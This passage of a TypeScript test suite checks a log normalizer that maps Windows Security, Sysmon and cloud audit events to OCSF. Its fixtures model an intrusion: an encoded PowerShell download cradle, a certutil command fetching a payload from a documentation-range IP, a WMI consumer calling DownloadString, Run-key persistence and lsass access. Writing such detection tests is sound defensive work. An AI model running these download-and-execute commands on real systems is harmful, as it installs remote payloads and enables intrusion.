      attributes: {
        process: {
          name: "powershell.exe",
          path: "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe",
          pid: 0x1f3c,
          parent_process: { name: "cmd.exe", pid: 0x1e08 },
        },
      },
    });
    const encoded =
      /-Enc (\S+)/.exec(String((ps?.attributes.process as { cmd_line: string }).cmd_line))?.[1] ?? "";
    expect(Buffer.from(encoded, "base64").toString("utf16le")).toContain("http://198.51.100.23/stage2.ps1");
  });

  it("names the account a new process runs as and its integrity level as Sysmon does", () => {
    const processOf = (image: string, subject: string) =>
      by(4688).find((e) => {
        const p = e.attributes.process as { path?: string };
        return p.path?.endsWith(image) && (e.attributes.subject as { name: string }).name === subject;
      })?.attributes.process;
    // The target is the NULL SID: the process runs as its creator.
    expect(processOf("\\whoami.exe", "svc-sql")).toMatchObject({
      account: "CORP\\svc-sql",
      integrity: "S-1-16-12288",
      integrity_level: "High",
      pid: 0x1fa8,
    });
    // Started by LocalSystem (named by the computer's account) as LocalSystem.
    expect(processOf("\\whoami.exe", "WS-FIN-042$")).toMatchObject({
      account: "NT AUTHORITY\\SYSTEM",
      integrity_level: "System",
    });
    // Started by LocalSystem as the target account the record names.
    expect(processOf("\\svchost.exe", "WS-FIN-042$")).toMatchObject({
      account: "NT AUTHORITY\\LOCAL SERVICE",
      user: { name: "LOCAL SERVICE", domain: "NT AUTHORITY" },
      parent_process: { name: "services.exe", pid: 0x2c4 },
    });
    const record = (data: Record<string, unknown>, version?: number) =>
      ok(
        normalize("WINDOWS_SECURITY", {
          EventID: 4688,
          Version: version,
          TimeCreated: "2026-11-20T08:00:00Z",
          Computer: "WS-7",
          EventRecordID: 9,
          EventData: {
            SubjectUserSid: "S-1-5-21-1-2-3-1001",
            SubjectUserName: "eve",
            SubjectDomainName: "WS-7",
            NewProcessName: "C:\\Windows\\System32\\cmd.exe",
            ...data,
          },
        }),
      ).attributes.process as Record<string, unknown>;
    // Before Windows 10 a record has no target: a service started as another account would pass for its creator's.
    expect(record({ MandatoryLabel: "S-1-16-8192" }, 1)).toMatchObject({ integrity_level: "Medium" });
    expect(record({}, 1).account).toBeUndefined();
    expect(record({ TargetUserSid: "S-1-0-0", TargetUserName: "-" }).account).toBe("WS-7\\eve");
    expect(record({}, 2).account).toBe("WS-7\\eve");
    // Without a domain there is no DOMAIN\user to compare; Low may be an AppContainer process, which Sysmon names so.
    expect(record({ SubjectDomainName: "-", MandatoryLabel: "S-1-16-4096" }, 2)).not.toHaveProperty(
      "account",
    );
    expect(record({ MandatoryLabel: "S-1-16-4096" }, 2)).not.toHaveProperty("integrity_level");
  });

  it("maps account, group membership and log-cleared events", () => {
    expect(by(4720)[0]).toMatchObject({
      class_uid: 3001,
      activity_id: 1,
      actor_user: "CORP\\svc-sql",
      attributes: { target_user: "VM-JUMP-01\\support_tmp", user: { uid: expect.stringMatching(/-1013$/) } },
    });
    expect(by(4726)[0]).toMatchObject({
      class_uid: 3001,
      activity_id: 6,
      attributes: { target_user: "CORP\\j.doe" },
    });
    expect(by(4732)[0]).toMatchObject({
      class_uid: 3006,
      activity_id: 3,
      attributes: {
        group: { name: "Administrators", uid: "S-1-5-32-544" },
        member: { uid: expect.any(String) },
      },
    });
    expect(by(4728)[0]).toMatchObject({
      actor_user: "CORP\\lee.gu",
      attributes: {
        group: { name: "Domain Admins", type: "security-enabled global" },
        member: { name: "svc-sql", dn: "CN=svc-sql,OU=Service Accounts,DC=corp,DC=contoso,DC=com" },
      },
    });
    expect(by(1102)[0]).toMatchObject({
      class_uid: 1008,
      activity_id: 1,
      severity_id: 4,
      status: "Success",
      actor_user: "CORP\\svc-sql",
      attributes: { provider: "Microsoft-Windows-Eventlog", event_data: { SubjectUserName: "svc-sql" } },
    });
    // An event no class describes is kept as an OCSF Base Event.
    expect(by(4672)[0]).toMatchObject({ class_uid: 0, activity_id: 99, actor_user: "CORP\\svc-backup" });
  });

  it("reads EventData given as a list of names and values, and flat times", () => {
    const event = ok(
      normalize("WINDOWS_SECURITY", {
        EventID: "4625",
        TimeCreated: "2026-11-20T08:00:00.1234567Z",
        Computer: "WS-7",
        EventRecordID: "42",
        Keywords: ["Audit Failure"],
        EventData: {
          Data: [
            { Name: "TargetUserName", "#text": "eve" },
            { Name: "IpAddress", Value: "::ffff:192.0.2.9" },
            { Name: "IpPort", Value: "4431" },
            { Name: "SubStatus", Value: "0xC0000234" },
          ],
        },
      }),
    );
    expect(event).toMatchObject({
      source_event_id: "ws-7:42",
      device: "WS-7",
      time: "2026-11-20T08:00:00.123Z",
      status: "Failure",
      actor_user: "eve",
      src_ip: "192.0.2.9",
      src_port: 4431,
      attributes: { failure_reason: "account locked out" },
    });
  });
});

describe("WINDOWS_SYSMON", () => {
  const list = events.WINDOWS_SYSMON;
  const by = (id: number) => list.filter((e) => e.attributes.event_id === id);
  const created = (image: string) =>
    by(1).find((e) => (e.attributes.process as { name: string }).name === image)!;

  it("maps a process creation (event 1) with what 4688 lacks: original name, version information, hashes, parent command line", () => {
    const certutil = created("certutil.exe");
    expect(certutil).toMatchObject({
      source_event_id: expect.stringMatching(/^ws-7\.corp\.contoso\.com:\d+$/),
      time: "2026-11-20T09:02:09.240Z",
      class_uid: 1007,
      activity_id: 1,
      status: "Success",
      severity_id: 1,
      actor_user: "CORP\\adele.vance",
      device: "WS-7.corp.contoso.com",
      operation: "1",
      attributes: {
        event_id: 1,
        channel: "Microsoft-Windows-Sysmon/Operational",
        provider: "Microsoft-Windows-Sysmon",
        process: {
          name: "certutil.exe",
          path: "C:\\Windows\\System32\\certutil.exe",
          pid: 8044,
          uid: expect.stringMatching(/^\{[0-9a-f-]{36}\}$/),
          account: "CORP\\adele.vance",
          user: { name: "adele.vance", domain: "CORP" },
          cmd_line:
            "certutil.exe -urlcache -split -f http://198.51.100.23/stage3.bin C:\\Users\\Public\\svc.exe",
          current_directory: "C:\\Users\\adele.vance\\Downloads\\",
          integrity_level: "Medium",
          session_id: 1,
          file: {
            original_name: "CertUtil.exe",
            company_name: "Microsoft Corporation",
            desc: "CertUtil.exe",
            hashes: {
              md5: "7973b3971b3e5805cd37a336ef4a180a",
              sha1: "6b9964d2f0c7623f2cee42dd530426507b453155",
              sha256: "7e3986501e70992c1521b0416c71ff72d3dcad719d89439b379d63c9d08c3141",
              imphash: "6d7f26e01d69572cc5b94544a98045c1",
            },
          },
          parent_process: {
            name: "powershell.exe",
            pid: 6976,
            cmd_line: expect.stringMatching(/^powershell\.exe -NoP -NonI -W Hidden -enc SQBFAFgA/),
          },
        },
        event_data: { OriginalFileName: "CertUtil.exe", Hashes: expect.stringContaining("SHA256=7E398650") },
      },
    });
    // The encoded PowerShell that started it, and its terminations (event 5).
    expect(created("powershell.exe").attributes.process).toMatchObject({
      cmd_line: expect.stringContaining(" -enc "),
      parent_process: { name: "WINWORD.EXE" },
    });
    expect(by(5).map((e) => [e.activity_id, (e.attributes.process as { name: string }).name])).toEqual([
      [2, "WmiPrvSE.exe"],
      [2, "certutil.exe"],
    ]);
  });

  it("reads the envelope variants: System fields at the top or under System, EventData an object or [{ Name, Value }]", () => {
    const raws = records.WINDOWS_SYSMON as Array<Record<string, unknown>>;
    expect(raws.some((r) => "System" in r)).toBe(true);
    expect(raws.some((r) => Array.isArray((r.EventData as { Data?: unknown } | undefined)?.Data))).toBe(true);
    // certutil's creation is written as [{ Name, Value }] under System.
    const certutil = created("certutil.exe");
    expect((certutil.raw as { System?: unknown }).System).toBeDefined();
    expect(certutil.attributes.event_data).toMatchObject({ Image: "C:\\Windows\\System32\\certutil.exe" });
  });

  it("maps network connections (event 3) with addresses, ports and direction; inbound RDP and SSH from the internet", () => {
    const inbound = by(3).filter((e) => e.attributes.initiated === false);
    expect(inbound.map((e) => [e.src_ip, e.dst_ip, e.dst_port])).toEqual([
      ["203.0.113.99", "10.20.30.15", 3389],
      ["198.51.100.140", "10.20.30.15", 22],
      ["10.20.14.57", "10.20.30.15", 3389],
    ]);
    expect(inbound[0]).toMatchObject({
      class_uid: 4001,
      activity_id: 1,
      src_port: 61022,
      actor_user: "NT AUTHORITY\\NETWORK SERVICE",
      attributes: {
        connection_info: { protocol_name: "tcp", direction: "Inbound", direction_id: 1 },
        process: { name: "svchost.exe", pid: 1180 },
        dst_endpoint: { hostname: "SRV-APP-03.corp.contoso.com", port_name: "ms-wbt-server" },
      },
    });
    const c2 = by(3).find((e) => e.dst_ip === "203.0.113.50")!;
    expect(c2.attributes).toMatchObject({
      initiated: true,
      connection_info: { direction: "Outbound", direction_id: 2 },
      dst_endpoint: { hostname: "edge.update-check.example" },
    });
    // IPv6 addresses in Sysmon's uncompressed form become canonical.
    expect(by(3).find((e) => e.dst_port === 1433)).toMatchObject({
      src_ip: "fe80::1d2c:9a4b:77e1:3f10",
      dst_ip: "fe80::4c11:2b7a:9d0e:18a2",
    });
  });

  it("maps DNS queries (event 22) with the name, answers and status", () => {
    const lookups = by(22);
    expect(lookups.every((e) => e.class_uid === 4003 && e.activity_id === 1)).toBe(true);
    expect(
      lookups.find(
        (e) =>
          e.attributes.query &&
          (e.attributes.query as { hostname: string }).hostname === "cdn.update-check.example",
      ),
    ).toMatchObject({
      status: "Success",
      attributes: {
        rcode_id: 0,
        answers: [
          { type_id: 5, rdata: "edge.update-check.example" },
          { type: "A", rdata: "203.0.113.50" },
        ],
        process: { name: "svc.exe" },
      },
    });
    expect(lookups.find((e) => e.attributes.rcode_id === 9003)).toMatchObject({ status: "Failure" });
  });

  it("maps files, loaded images and registry changes to File System, Module and Registry activity", () => {
    expect(by(11).find((e) => (e.attributes.file as { name: string }).name === "svc.exe")).toMatchObject({
      class_uid: 1001,
      activity_id: 1,
      attributes: { file: { path: "C:\\Users\\Public\\svc.exe" }, process: { name: "certutil.exe" } },
    });
    expect(by(23)[0]).toMatchObject({
      class_uid: 1001,
      activity_id: 4,
      attributes: {
        file: { name: "Invoice_20261120.docm", hashes: { sha256: expect.stringMatching(/^[0-9a-f]{64}$/) } },
      },
    });
    expect(by(7)[0]).toMatchObject({ class_uid: 1005, activity_id: 1 });
    expect(by(6)[0]).toMatchObject({
      class_uid: 1005,
      actor_user: null,
      attributes: { file: { name: "mssecflt.sys", signature: { signed: true, status: "Valid" } } },
    });
    const run = by(13).find((e) =>
      String((e.attributes.reg_value as { path: string }).path).includes("\\Run\\"),
    )!;
    expect(run).toMatchObject({
      class_uid: 201004,
      activity_id: 2,
      attributes: {
        reg_value: { data: "C:\\Users\\Public\\svc.exe --silent" },
        process: { name: "svc.exe" },
      },
    });
    expect(by(12)[0]).toMatchObject({ class_uid: 201001, activity_id: 1 });
    expect(by(10)[0]).toMatchObject({
      class_uid: 1007,
      activity_id: 3,
      actor_user: "CORP\\adele.vance",
      attributes: {
        process: { name: "lsass.exe", pid: 812 },
        actor_process: { name: "svc.exe" },
        granted_access: "0x1010",
      },
    });
  });

  it("maps the executables Sysmon saw written (29) or blocked (27) and the shredding it blocked (28) to File System Activity, a block as a failed, denied attempt", () => {
    const svc = {
      name: "svc.exe",
      path: "C:\\Users\\Public\\svc.exe",
      pid: 5532,
      uid: "{3f2a1c4e-8b1d-674a-4ad3-ed55c2e9a614}",
      account: "CORP\\adele.vance",
    };
    const common = {
      class_uid: 1001,
      device: "WS-7.corp.contoso.com",
      actor_user: "CORP\\adele.vance",
      source_event_id: expect.stringMatching(/^ws-7\.corp\.contoso\.com:\d+$/),
    };
    const [detected] = by(29);
    expect(detected).toMatchObject({
      ...common,
      activity_id: 1,
      status: "Success",
      operation: "29",
      message:
        "Executable file C:\\Users\\Public\\Libraries\\version.dll created by svc.exe on WS-7.corp.contoso.com",
      attributes: {
        process: svc,
        file: {
          name: "version.dll",
          path: "C:\\Users\\Public\\Libraries\\version.dll",
          hashes: {
            md5: "464cdae026fdd21fbd694c10827fb15a",
            sha1: "d8ccb55e2f9a740614160f7ac2133b218add5da5",
            sha256: "654e9fc12332a843b230ef3f78844dc4fb42ec5a11d05db1e6ec020ee24b0a8c",
            imphash: "d5d4ddfaea1c786979958ae251b09223",
          },
        },
      },
    });
    expect(detected.attributes).not.toHaveProperty("action");
    // Written as [{ Name, Value }] under System: the same event.
    const [blocked] = by(27);
    expect(blocked).toMatchObject({
      ...common,
      activity_id: 1,
      status: "Failure",
      message:
        "Executable file C:\\Users\\adele.vance\\AppData\\Local\\Temp\\wupd_4411.exe blocked from being created by svc.exe on WS-7.corp.contoso.com",
      attributes: {
        rule_name: "Executable dropped in Temp",
        action: "Denied",
        action_id: 2,
        disposition: "Blocked",
        disposition_id: 2,
        process: svc,
        file: {
          name: "wupd_4411.exe",
          hashes: { sha256: "df98f7fed89be622823ef575aafc7c53a7a58380b69d278c33dcd2544588ef35" },
        },
      },
    });
    const [shredding] = by(28);
    expect(shredding).toMatchObject({
      ...common,
      activity_id: 4,
      status: "Failure",
      message:
        "File C:\\Users\\adele.vance\\Documents\\Q4_Forecast.xlsx blocked from being shredded by svc.exe on WS-7.corp.contoso.com",
      attributes: {
        rule_name: "Protect user documents",
        action: "Denied",
        disposition: "Blocked",
        process: svc,
        file: { name: "Q4_Forecast.xlsx", is_executable: false },
        event_data: { IsExecutable: "false" },
      },
    });
    // A document has no import hash; the threat-intelligence matcher sees each file's digests.
    expect((shredding.attributes.file as { hashes: object }).hashes).not.toHaveProperty("imphash");
    expect(observablesOf(detected).hashes).toContain(
      "654e9fc12332a843b230ef3f78844dc4fb42ec5a11d05db1e6ec020ee24b0a8c",
    );
  });

  it("keeps the events OCSF has no class for (state, raw reads, WMI, clipboard, tampering, errors) as Base Events with their fields and a message", () => {
    const kept = (id: number) =>
      by(id).map((e) => ({
        class_uid: e.class_uid,
        activity_id: e.activity_id,
        status: e.status,
        actor_user: e.actor_user,
        message: e.message,
      }));
    const other = { class_uid: 0, activity_id: 99, status: "Unknown" };
    const svcSql = { ...other, actor_user: "CORP\\svc-sql" };
    expect([4, 16, 255].flatMap(kept)).toEqual([
      { ...other, actor_user: null, message: "Sysmon service state Started on WS-7.corp.contoso.com" },
      { ...other, actor_user: null, message: "Sysmon service state Stopped on SRV-APP-03.corp.contoso.com" },
      {
        ...other,
        actor_user: null,
        message:
          "Sysmon configuration C:\\ProgramData\\sysmon\\sysmonconfig.xml loaded on WS-7.corp.contoso.com",
      },
      {
        ...other,
        status: "Failure",
        actor_user: null,
        message:
          "Sysmon error DriverCommunication on SRV-APP-03.corp.contoso.com: Failed to connect to the driver to update configuration - Last error: Access is denied.",
      },
    ]);
    // A WMI persistence: an event filter, a command-line consumer and the binding of the two (19, 20, 21).
    expect([19, 20, 21].flatMap(kept)).toEqual([
      {
        ...svcSql,
        message:
          'WMI event filter "SCM Updater Filter" created by CORP\\svc-sql on SRV-APP-03.corp.contoso.com',
      },
      {
        ...svcSql,
        message:
          'WMI event consumer "SCM Updater Consumer" (Command Line) created by CORP\\svc-sql on SRV-APP-03.corp.contoso.com',
      },
      {
        ...svcSql,
        message:
          'WMI binding of "CommandLineEventConsumer.Name=\\"SCM Updater Consumer\\"" to "__EventFilter.Name=\\"SCM Updater Filter\\"" created by CORP\\svc-sql on SRV-APP-03.corp.contoso.com',
      },
    ]);
    expect(by(20)[0].attributes.event_data).toMatchObject({
      EventType: "WmiConsumerEvent",
      Operation: "Created",
      Type: "Command Line",
      Destination: expect.stringContaining(".DownloadString('http://198.51.100.23/u.ps1')"),
    });
    expect(by(19)[0].attributes.event_data).toMatchObject({
      EventNamespace: '"root\\\\cimv2"',
      Query: expect.stringContaining("Win32_PerfFormattedData_PerfOS_System"),
    });
    expect([9, 24, 25].flatMap(kept)).toEqual([
      {
        ...svcSql,
        message:
          "powershell.exe on SRV-APP-03.corp.contoso.com read the raw device \\Device\\HarddiskVolume2",
      },
      {
        ...svcSql,
        message:
          "Clipboard changed in rdpclip.exe on vm-jump-01.corp.contoso.com (user: CORP\\svc-sql ip: 10.20.30.15 hostname: SRV-APP-03)",
      },
      {
        ...other,
        actor_user: "CORP\\adele.vance",
        message: "Process tampering in dllhost.exe on WS-7.corp.contoso.com: Image is replaced",
      },
    ]);
    // The process these name is the event's process, as for the mapped events.
    expect(by(25)[0].attributes).toMatchObject({
      process: { name: "dllhost.exe", pid: 7788, account: "CORP\\adele.vance" },
      event_data: { Type: "Image is replaced" },
    });
    expect(by(24)[0].attributes.event_data).toMatchObject({ Session: "2", Archived: "true" });
    expect(by(9)[0].attributes.event_data).toMatchObject({ Device: "\\Device\\HarddiskVolume2" });
  });

  it("gives the threat-intelligence matcher the hashes (not the imphash), domains and addresses", () => {
    const seen = (e: NormalizedEvent) => observablesOf(e);
    expect(seen(created("svc.exe")).hashes).toEqual([
      expect.stringMatching(/^[0-9a-f]{40}$/),
      expect.stringMatching(/^[0-9a-f]{32}$/),
      "2249ca6bb3b7fd78d815019f7ce463f4389b4d9a1836d1a8f0ab274eb5ca70e4",
    ]);
    const lookup = by(22).find((e) =>
      (e.attributes.query as { hostname: string }).hostname.endsWith(".example"),
    )!;
    expect(seen(lookup).domains).toEqual(["cdn.update-check.example"]);
    expect(seen(by(3).find((e) => e.dst_ip === "203.0.113.50")!).ips).toEqual([
      "10.20.14.57",
      "203.0.113.50",
    ]);
  });

  it("parses Hashes of one or several algorithms and ignores what is not a digest", () => {
    expect(sysmonHashes("SHA256=ABCDEF0123")).toEqual({ sha256: "abcdef0123" });
    expect(sysmonHashes("MD5=00FF, SHA1 = 11ee ,CRC=1,SHA256=xyz")).toEqual({ md5: "00ff", sha1: "11ee" });
    expect(sysmonHashes("-")).toBeUndefined();
    expect(sysmonHashes(42)).toBeUndefined();
  });

  it("takes the record number per computer as its id, whatever the case of the computer's name", () => {
    const record = {
      EventID: 1,
      TimeCreated: { SystemTime: "2026-11-20T09:00:00.000Z" },
      EventRecordID: 7,
      Channel: "Microsoft-Windows-Sysmon/Operational",
      Computer: "WS-9.Corp.Contoso.com",
      EventData: [
        { Name: "Image", Value: "C:\\Windows\\System32\\cmd.exe" },
        { Name: "User", Value: "-" },
      ],
    };
    const event = ok(normalize("WINDOWS_SYSMON", record));
    expect(event).toMatchObject({ source_event_id: "ws-9.corp.contoso.com:7", actor_user: null });
    expect(
      ok(normalize("WINDOWS_SYSMON", { ...record, Computer: "ws-9.corp.contoso.com" })).source_event_id,
    ).toBe(event.source_event_id);
  });
});

describe("rejections", () => {
  const cases: Array<[ConnectorKind, unknown, RegExp]> = [
    ["AZURE_ACTIVITY", "not an object", /expected an activity log event/],
    ["AZURE_ACTIVITY", [1, 2], /got an array/],
    ["AZURE_ACTIVITY", { eventDataId: "a" }, /missing eventTimestamp/],
    ["AZURE_ACTIVITY", { eventTimestamp: "2026-11-20T09:00:00Z" }, /missing operationName/],
    ["AZURE_ACTIVITY", { eventDataId: "a", eventTimestamp: "yesterday" }, /unparseable eventTimestamp/],
    ["AZURE_ACTIVITY", { eventDataId: "a", eventTimestamp: {} }, /unparseable eventTimestamp/],
    ["ENTRA_SIGNIN", null, /expected a signIn resource/],
    ["ENTRA_SIGNIN", { id: "x" }, /missing createdDateTime/],
    ["ENTRA_SIGNIN", { createdDateTime: "2026-11-20T09:00:00Z" }, /missing id/],
    ["ENTRA_SIGNIN", { id: "x", createdDateTime: "2026-02-30T09:00:00Z" }, /unparseable createdDateTime/],
    ["ENTRA_SIGNIN", { value: [{}] }, /list of sign-ins/],
    ["AWS_CLOUDTRAIL", 42, /expected a CloudTrail record/],
    ["AWS_CLOUDTRAIL", { eventID: "e", eventName: "X" }, /missing eventTime/],
    ["AWS_CLOUDTRAIL", { eventTime: "2026-11-20T09:00:00Z", eventName: "X" }, /missing eventID/],
    ["AWS_CLOUDTRAIL", { eventID: "e", eventTime: "2026-11-20T09:00:00Z" }, /missing eventName/],
    ["M365_AUDIT", true, /expected an audit record/],
    ["M365_AUDIT", { Id: "x", Operation: "FileAccessed" }, /missing CreationTime/],
    [
      "M365_AUDIT",
      { Id: "x", CreationTime: "20/11/2026 09:00", Operation: "FileAccessed" },
      /unparseable CreationTime/,
    ],
    ["M365_AUDIT", { Id: "x", CreationTime: "2026-11-20T09:00:00" }, /missing Operation/],
    ["OKTA_SYSTEM_LOG", "user.session.start", /expected an Okta LogEvent/],
    ["OKTA_SYSTEM_LOG", { published: "2026-11-20T09:00:00Z", eventType: "x" }, /missing uuid/],
    ["OKTA_SYSTEM_LOG", { uuid: "u", eventType: "x" }, /missing published/],
    ["OKTA_SYSTEM_LOG", { uuid: "u", published: "last week", eventType: "x" }, /unparseable published/],
    ["OKTA_SYSTEM_LOG", { uuid: "u", published: "2026-11-20T09:00:00Z" }, /missing eventType/],
    [
      "OKTA_SYSTEM_LOG",
      { uuid: "u", published: "2026-11-20T09:00:00Z", eventType: "x", actor: "lee" },
      /actor must be an object/,
    ],
    [
      "OKTA_SYSTEM_LOG",
      { uuid: "u", published: "2026-11-20T09:00:00Z", eventType: "x", target: { id: "t" } },
      /target must be a list/,
    ],
    [
      "OKTA_SYSTEM_LOG",
      { uuid: "u", published: "2026-11-20T09:00:00Z", eventType: "x", outcome: "SUCCESS" },
      /outcome must be an object/,
    ],
    ["GCP_AUDIT", [], /expected a LogEntry/],
    ["GCP_AUDIT", { timestamp: "2026-11-20T09:00:00Z" }, /missing insertId/],
    ["GCP_AUDIT", { insertId: "i" }, /missing timestamp/],
    ["GCP_AUDIT", { insertId: "i", timestamp: 1795165200000, protoPayload: "x" }, /missing protoPayload/],
    [
      "GCP_AUDIT",
      { insertId: "i", timestamp: "2026-11-20T09:00:00Z", textPayload: "hello" },
      /missing protoPayload/,
    ],
    [
      "GCP_AUDIT",
      {
        insertId: "i",
        timestamp: "2026-11-20T09:00:00Z",
        protoPayload: { "@type": "type.googleapis.com/google.cloud.audit.AuditData", methodName: "m" },
      },
      /is not type.googleapis.com\/google.cloud.audit.AuditLog/,
    ],
    [
      "GCP_AUDIT",
      {
        insertId: "i",
        timestamp: "2026-11-20T09:00:00Z",
        protoPayload: { "@type": "type.googleapis.com/google.cloud.audit.AuditLog" },
      },
      /missing protoPayload.methodName/,
    ],
    [
      "GCP_AUDIT",
      {
        insertId: "i",
        timestamp: "2026-11-20T09:00:00Z",
        protoPayload: {
          "@type": "type.googleapis.com/google.cloud.audit.AuditLog",
          methodName: "m",
          status: { code: "PERMISSION_DENIED" },
        },
      },
      /status.code must be a google.rpc code/,
    ],
    ["WINDOWS_SECURITY", "4625", /expected a Windows event record/],
    ["WINDOWS_SECURITY", { TimeCreated: { SystemTime: "2026-11-20T09:00:00Z" } }, /missing EventID/],
    ["WINDOWS_SECURITY", { EventID: "logon", Computer: "h" }, /EventID must be an integer/],
    [
      "WINDOWS_SECURITY",
      { EventID: 4624, Computer: "h", EventRecordID: 1 },
      /missing TimeCreated.SystemTime/,
    ],
    [
      "WINDOWS_SECURITY",
      { EventID: 4624, TimeCreated: { SystemTime: "20/11/2026 09:00" }, Computer: "h", EventRecordID: 1 },
      /unparseable TimeCreated.SystemTime/,
    ],
    [
      "WINDOWS_SECURITY",
      { EventID: 4624, TimeCreated: "2026-11-20T09:00:00Z", EventRecordID: 1 },
      /missing Computer/,
    ],
    [
      "WINDOWS_SECURITY",
      { EventID: 4624, TimeCreated: "2026-11-20T09:00:00Z", Computer: "h" },
      /missing EventRecordID/,
    ],
    [
      "WINDOWS_SECURITY",
      { EventID: 4624, TimeCreated: "2026-11-20T09:00:00Z", Computer: "h", EventRecordID: "x1" },
      /EventRecordID must be a non-negative integer/,
    ],
    [
      "WINDOWS_SECURITY",
      {
        EventID: 7036,
        TimeCreated: "2026-11-20T09:00:00Z",
        Computer: "h",
        EventRecordID: 1,
        Channel: "System",
      },
      /not the Security log/,
    ],
    [
      "WINDOWS_SECURITY",
      { EventID: 4624, TimeCreated: "2026-11-20T09:00:00Z", Computer: "h", EventRecordID: 1, EventData: "x" },
      /EventData must be an object/,
    ],
    ["WINDOWS_SYSMON", [], /expected a Windows event record/],
    [
      "WINDOWS_SYSMON",
      {
        EventID: 1,
        TimeCreated: "2026-11-20T09:00:00Z",
        Computer: "h",
        EventRecordID: 1,
        Channel: "Security",
      },
      /Channel "Security" is not the Sysmon log \(WINDOWS_SYSMON takes Microsoft-Windows-Sysmon\/Operational events\)/,
    ],
    [
      "WINDOWS_SYSMON",
      { EventID: 70000, TimeCreated: "2026-11-20T09:00:00Z", Computer: "h", EventRecordID: 1 },
      /EventID must be an integer 0–65535/,
    ],
    [
      "WINDOWS_SYSMON",
      { EventID: 3, TimeCreated: "2026-11-20T09:00:00Z", Computer: "h", EventRecordID: -1 },
      /EventRecordID must be a non-negative integer/,
    ],
    ["OCSF", "{}", /expected an OCSF event/],
    ["OCSF", { class_uid: "1007", time: 1, metadata: { uid: "u" } }, /class_uid must be a positive integer/],
    ["OCSF", { class_uid: 1007, metadata: { uid: "u" } }, /missing time/],
    ["OCSF", { class_uid: 1007, time: "soon", metadata: { uid: "u" } }, /unparseable time/],
    ["SYSLOG_CEF", 12, /expected a syslog line/],
    ["SYSLOG_CEF", { msg: "CEF:0|a|b|c|d|e|1|" }, /string `message`/],
    ["SYSLOG_CEF", "<14>Nov 20 08:55:00 fw-edge-01 hello world", /no CEF payload/],
    ["SYSLOG_CEF", "<14>Nov 20 08:55:00 fw CEF:0|Vendor|Product|1.0|100", /malformed CEF header/],
    ["SYSLOG_CEF", "CEF:x|Vendor|Product|1.0|100|Name|5|src=1.2.3.4", /malformed CEF header/],
    ["SYSLOG_CEF", "<14>Nov 20 08:55:00 fw CEF:0|V|P|1|100|Name|5|src=192.0.2.1", /no year/],
    ["SYSLOG_CEF", "CEF:0|V|P|1|100|Name|5|src=192.0.2.1", /no time/],
    ["SYSLOG_CEF", "CEF:0|V|P|1|100|Name|5|rt=someday src=192.0.2.1", /unparseable CEF rt/],
  ];

  it.each(cases)("%s rejects %j", (kind, record, reason) => {
    expect(rejected(normalize(kind, record))).toMatch(reason);
  });

  it("never throws, even on hostile input", () => {
    const hostile = Object.defineProperty({}, "eventTimestamp", {
      enumerable: true,
      get() {
        throw new Error("boom");
      },
    });
    for (const kind of CONNECTOR_KINDS) {
      for (const value of [undefined, null, 0, "", [], {}, hostile, Symbol("s"), () => 1, new Date(0)]) {
        expect(() => normalize(kind, value)).not.toThrow();
        expect("reason" in normalize(kind, value)).toBe(true);
      }
    }
    const hostileEvent = Object.defineProperty({ eventDataId: "a" }, "eventTimestamp", {
      enumerable: true,
      get() {
        throw new Error("boom");
      },
    });
    expect(rejected(normalize("AZURE_ACTIVITY", hostileEvent))).toMatch(/could not read the record \(boom\)/);
    expect(rejected(normalize("NOPE" as ConnectorKind, {}))).toMatch(/unknown connector kind/);
  });
});

describe("IP, port and time parsing", () => {
  it.each([
    ["203.0.113.5", "203.0.113.5"],
    ["203.0.113.5:8080", "203.0.113.5"],
    ["[2001:db8::1]:443", "2001:db8::1"],
    ["[2001:DB8:0:0:0:0:0:1]", "2001:db8::1"],
    ["2001:0db8:0000:0000:0001:0000:0000:0001", "2001:db8::1:0:0:1"],
    ["fe80::1%eth0", "fe80::1"],
    ["::ffff:203.0.113.9", "203.0.113.9"],
    ["::", "::"],
    [" 10.0.0.1 ", "10.0.0.1"],
    ["999.1.1.1", null],
    ["010.1.1.1", null],
    ["10.0.0.0/8", null],
    ["AWS Internal", null],
    ["cloudtrail.amazonaws.com", null],
    ["1:2:3:4:5:6:7:8:9", null],
    ["", null],
    [12345, null],
  ])("normalizeIp(%j) = %j", (input, expected) => {
    expect(normalizeIp(input)).toBe(expected);
  });

  it.each([
    [22, 22],
    ["3389", 3389],
    [0, 0],
    [65535, 65535],
    [65536, null],
    [-1, null],
    [3.5, null],
    ["22a", null],
    [null, null],
  ])("normalizePort(%j) = %j", (input, expected) => {
    expect(normalizePort(input)).toBe(expected);
  });

  it.each([
    ["2026-11-20T09:00:00Z", "2026-11-20T09:00:00.000Z"],
    ["2026-11-20T09:00:00", "2026-11-20T09:00:00.000Z"],
    ["2026-11-20T09:00:00.1234567Z", "2026-11-20T09:00:00.123Z"],
    ["2026-11-20T10:00:00+01:00", "2026-11-20T09:00:00.000Z"],
    ["2026-11-20 09:00:00", "2026-11-20T09:00:00.000Z"],
    [1795165200000, "2026-11-20T09:00:00.000Z"],
    [1795165200, "2026-11-20T09:00:00.000Z"],
    ["1795165200000", "2026-11-20T09:00:00.000Z"],
    ["2026-13-01T00:00:00Z", null],
    ["Fri Nov 20 2026", null],
    [Number.NaN, null],
    [8.64e20, null],
    // Years outside 1–9999 (found by normalizers.fuzz.test.ts): ISO text would read `0000-…` or `+010000-…`,
    // and Postgres refuses year 0.
    ["0001-01-01T00:00:00Z", "0001-01-01T00:00:00.000Z"],
    ["9999-12-31T23:59:59.999Z", "9999-12-31T23:59:59.999Z"],
    ["0000-01-01T00:00:00Z", null],
    ["0001-01-01T00:00:00+01:00", null],
    [-62_135_596_800_001, null],
    [253_402_300_800_000, null],
    ["253402300800000", null],
  ])("toIsoTime(%j) = %j", (input, expected) => {
    expect(toIsoTime(input)).toBe(expected);
  });

  it("parses CEF dates", () => {
    expect(parseCefTime("Nov 20 2026 08:55:00 GMT", null)).toBe("2026-11-20T08:55:00.000Z");
    expect(parseCefTime("Nov 20 2026 09:55:00.250 +01:00", null)).toBe("2026-11-20T08:55:00.250Z");
    expect(parseCefTime("Nov 20 08:55:00", "2026-11-20T08:55:01.000Z")).toBe("2026-11-20T08:55:00.000Z");
    expect(parseCefTime("Jan 01 0000 00:00:00 GMT", null)).toBe(null);
    expect(parseCefTime("Nov 20 08:55:00", null)).toBeNull();
    expect(parseCefTime("1795164900000", null)).toBe("2026-11-20T08:55:00.000Z");
  });
});

describe("CEF parsing", () => {
  it("handles header and extension escaping", () => {
    const cef = parseCef(
